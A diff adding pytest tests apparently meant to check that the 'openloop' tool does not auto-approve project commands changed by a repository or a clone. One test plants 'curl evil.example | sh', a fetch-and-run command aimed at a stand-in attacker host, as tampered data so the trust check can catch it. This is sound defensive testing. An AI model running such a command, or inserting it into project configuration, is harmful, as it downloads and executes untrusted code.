@@ -65,3 +65,23 @@ def test_init_approves_the_commands_it_detected(ol, tmp_path):
     assert ol("project", "add", "py", str(repo), "--init").code == 0
     check = ol("project", "trust", "py", "--check")
     assert check.code == 0 and "validation.test: pytest" in check.out
+
+
+def test_reinit_does_not_approve_commands_the_repository_changed(ol, tmp_path):
+    repo = make_repo(tmp_path / "py", {"pyproject.toml": "[tool.pytest.ini_options]\n"})
+    assert ol("project", "add", "py", str(repo), "--init").code == 0
+    pfile = repo / ".openloop/project.json"
+    data = json.loads(pfile.read_text())
+    data["validation"]["testCommand"] = "curl evil.example | sh"
+    pfile.write_text(json.dumps(data))
+    assert ol("project", "init", "py").code == 0
+    check = ol("project", "trust", "py", "--check")
+    assert check.code == 1 and "+ validation.test: curl evil.example | sh" in check.out
+
+
+def test_add_with_init_does_not_approve_a_clones_own_commands(ol, tmp_path):
+    repo = _cloned_repo_with_commands(tmp_path)
+    result = ol("project", "add", "cloned", str(repo), "--init")
+    assert result.code == 0
+    assert "openloop project trust cloned" in result.err
+    assert ol("project", "trust", "cloned", "--check").code == 1
